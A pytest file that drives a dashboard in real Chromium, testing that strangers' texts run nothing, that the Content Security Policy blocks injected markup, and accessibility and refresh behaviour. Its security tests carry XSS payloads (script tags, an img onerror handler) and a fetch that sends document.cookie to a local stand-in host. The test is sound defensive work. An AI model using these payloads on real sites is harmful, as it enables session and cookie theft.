"""The dashboard in a real Chromium: strangers' texts run nothing, the console stays empty, it fits and stays still."""

import asyncio
import json
import subprocess
import sys
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from tests.api_node import ApiNode, Operations, hostile_operations
from tests.browser import CHROMIUM, Page, open_browser
from viz_node.api import dashboard

pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="no Chromium on this machine (Debian: apt-get install chromium)"
)
WIDTHS = (360, 390, 768, 1280)
SCHEMES = ("light", "dark")

# Relative luminance and contrast as WCAG 2.2 defines them; 4.5 is what level AA asks of text.
CONTRAST = """(() => {
  const parse = c => (c.match(/[\\d.]+/g) || []).map(Number);
  const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
    .map(v => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [.2126, .7152, .0722][i], 0);
  const ground = e => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor);
    if (c.length === 3) return c; } return [255, 255, 255]; };
  const poor = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const e = walker.currentNode.parentElement;
    if (!walker.currentNode.textContent.trim() || e.closest('svg') || !e.getClientRects().length) continue;
    const [a, b] = [light(parse(getComputedStyle(e).color)), light(ground(e))];
    const ratio = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
    if (ratio < 4.5) poor.push(`${ratio.toFixed(2)} ${walker.currentNode.textContent.trim().slice(0, 40)}`);
  }
  return [...new Set(poor)];
})()"""
PLACES = "[...document.querySelectorAll('section')].map(s => [s.id, s.offsetTop, s.offsetHeight])"


def refreshed(*names: str) -> str:
    """A promise that is kept once each of these sections, or of all, has asked the node again by itself."""
    return f"""new Promise(done => {{ const seen = new Set(), names = {json.dumps(names)};
      const wanted = names.length ? names : [...document.querySelectorAll('section')].map(section => section.id);
      document.addEventListener('htmx:afterRequest', event => {{ seen.add(event.detail.target.closest('section').id);
        if (wanted.every(name => seen.has(name))) done(); }}); }})"""


@pytest.fixture(autouse=True)
def refreshes_soon(monkeypatch: pytest.MonkeyPatch) -> None:
    """Sections that ask seldom do it every few seconds here."""
    panels = tuple(replace(panel, refresh_seconds=min(panel.refresh_seconds, 4)) for panel in dashboard.PANELS)
    monkeypatch.setattr(dashboard, "PANELS", panels)


@pytest.fixture
async def page(tmp_path: Path) -> AsyncIterator[Page]:
    async with open_browser(tmp_path / "profile") as opened:
        yield opened


async def _log_in(page: Page, node: ApiNode) -> None:
    await page.open(f"http://{node.host}{node.sessions.login_path()}")
    assert await page.evaluate("location.pathname") == "/"


async def test_page__texts_of_strangers__run_nothing_and_break_nothing(page: Page) -> None:
    async with ApiNode(hostile_operations()) as node:
        await _log_in(page, node)
        await page.evaluate(refreshed())
        await page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        assert await page.evaluate("document.querySelectorAll('img:not([src^=\"/static/\"])').length") == 0
        assert await page.evaluate("document.querySelectorAll('script:not([src^=\"/static/\"])').length") == 0
        assert "<script>alert(1)</script>" in await page.evaluate("document.querySelector('#works').textContent")
        for width in WIDTHS:
            await page.look(width)
            assert await page.evaluate("document.documentElement.scrollWidth") <= width
        assert page.complaints == []


@pytest.mark.parametrize("scheme", SCHEMES)
async def test_report__texts_of_strangers__shows_curve_and_samples_and_runs_nothing(page: Page, scheme: str) -> None:
    async with ApiNode(hostile_operations()) as node:
        await _log_in(page, node)
        await page.open(f"http://{node.host}/reports/elsin")
        assert await page.evaluate("document.querySelectorAll('.curve polyline').length") == 2
        assert "1.80" not in await page.evaluate("document.querySelector('main').innerText")
        assert "6.05" in await page.evaluate("document.querySelector('main').innerText")  # e^(900/500)
        assert await page.evaluate("document.querySelectorAll('img:not([src^=\"/static/\"])').length") == 0
        for width in WIDTHS:
            await page.look(width, scheme=scheme)
            assert await page.evaluate("document.documentElement.scrollWidth") <= width
            assert await page.evaluate(CONTRAST) == []
        assert page.complaints == []
        await page.open(f"http://{node.host}/reports/none")
        assert "There is no report" in await page.evaluate("document.body.innerText")


async def test_policy__injected_markup__is_blocked_by_the_browser(page: Page) -> None:
    async with ApiNode(hostile_operations()) as node:
        await _log_in(page, node)
        await page.evaluate("""document.querySelector('main').insertAdjacentHTML('beforeend',
          '<img src="x:" onerror="window.stolen = 1"><i style="color:red">x</i><iframe src="/"></iframe>')""")
        await page.evaluate("""(() => { const s = document.createElement('script'); s.textContent = 'window.stolen = 2';
          document.body.append(s); })()""")
        await page.evaluate("setTimeout('window.stolen = 3')")
        assert await page.evaluate("fetch('http://127.0.0.1:9/?' + document.cookie).then(() => 1, () => 2)") == 2
        assert await page.evaluate("[typeof window.stolen, document.cookie].join()") == "undefined,"
        assert any("Content Security Policy" in complaint for complaint in page.complaints)


@pytest.mark.parametrize("scheme", SCHEMES)
async def test_page__light_and_dark__has_contrast_landmarks_and_names(page: Page, scheme: str) -> None:
    async with ApiNode(hostile_operations()) as node:
        await page.look(1280, scheme=scheme)
        await _log_in(page, node)
        assert await page.evaluate(CONTRAST) == []
        for landmark in ("header", "nav[aria-label]", "main", "footer", "h1", "html[lang]", "form[role=search]"):
            assert await page.evaluate(f"document.querySelectorAll('{landmark}').length") == 1, landmark
        unnamed = "[...document.querySelectorAll('input,button,a,progress')].filter(e => !(e.ariaLabel || e.innerText))"
        assert await page.evaluate(f"{unnamed}.length") == 0
        assert await page.evaluate("[...document.querySelectorAll('th')].every(t => t.scope)")


async def test_keyboard__tab__skips_to_content_and_keeps_its_place_over_a_refresh(page: Page) -> None:
    async with ApiNode(hostile_operations()) as node:
        await _log_in(page, node)
        await _press_tab(page)
        assert await page.evaluate("document.activeElement.className") == "skip"
        await page.evaluate("document.querySelector('summary').focus()")
        await page.evaluate(refreshed())
        assert await page.evaluate("document.activeElement.tagName") == "SUMMARY"


async def _press_tab(page: Page) -> None:
    for kind in ("keyDown", "keyUp"):
        await page.ask("Input.dispatchKeyEvent", type=kind, key="Tab", code="Tab", windowsVirtualKeyCode=9)


async def test_refresh__same_facts__moves_nothing_and_new_facts__show_up(page: Page) -> None:
    operations: Operations = hostile_operations()
    works: list[dict[str, Any]] = []

    async def content_list() -> list[dict[str, Any]]:
        return works

    operations["content_list"] = content_list
    async with ApiNode(operations) as node:
        await _log_in(page, node)
        places = await page.evaluate(PLACES)
        await page.evaluate(refreshed())
        assert await page.evaluate(PLACES) == places
        works.append({"work_id": "ab" * 32, "title": "Heron", "author": "Ada", "rights": "owned"})
        await page.evaluate(refreshed())
        assert "Heron" in await page.evaluate("document.querySelector('#works').innerText")
        assert page.complaints == []


async def test_page__node_gone__says_so(page: Page) -> None:
    async with ApiNode(hostile_operations()) as node:
        await _log_in(page, node)
        shown = "getComputedStyle(document.querySelector('.offline')).display"
        assert await page.evaluate(shown) == "none"
        failed = asyncio.ensure_future(
            page.evaluate("new Promise(done => document.addEventListener('htmx:sendError', () => done(1)))")
        )
        await page.evaluate("1")
        await node.server.close()
        await failed
        assert await page.evaluate(shown) == "block"


async def test_real_node__its_dashboard__shows_works_as_they_arrive(page: Page, tmp_path: Path) -> None:
    home = tmp_path / "home"
    command = [sys.executable, "-m", "viz_node.cli", "--home", str(home)]
    (tmp_path / "Heron.txt").write_text("The heron waits by the reeds. " * 40)
    node = subprocess.Popen(
        [*command, "start", "--dev", "--no-sample"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        await asyncio.to_thread(subprocess.run, [*command, "wait", "--timeout", "60"], check=True, capture_output=True)
        status = await asyncio.to_thread(_read_json, [*command, "status", "--json"])
        await page.open(status["dashboard"])
        assert "No works yet" in await page.evaluate("document.querySelector('#works').innerText")
        await asyncio.to_thread(_read_json, [*command, "content", "add", str(tmp_path / "Heron.txt"),
                                             "--rights", "owned", "--author", "Ada", "--json"])  # fmt: skip
        await page.evaluate(refreshed("works", "node"))
        assert "Heron" in await page.evaluate("document.querySelector('#works').innerText")
        assert "connected" in await page.evaluate("document.querySelector('#node').innerText")
        assert page.complaints == []
    finally:
        node.terminate()
        assert node.wait(15) == 0


def _read_json(command: list[str]) -> Any:
    return json.loads(subprocess.run(command, check=True, capture_output=True, text=True).stdout)
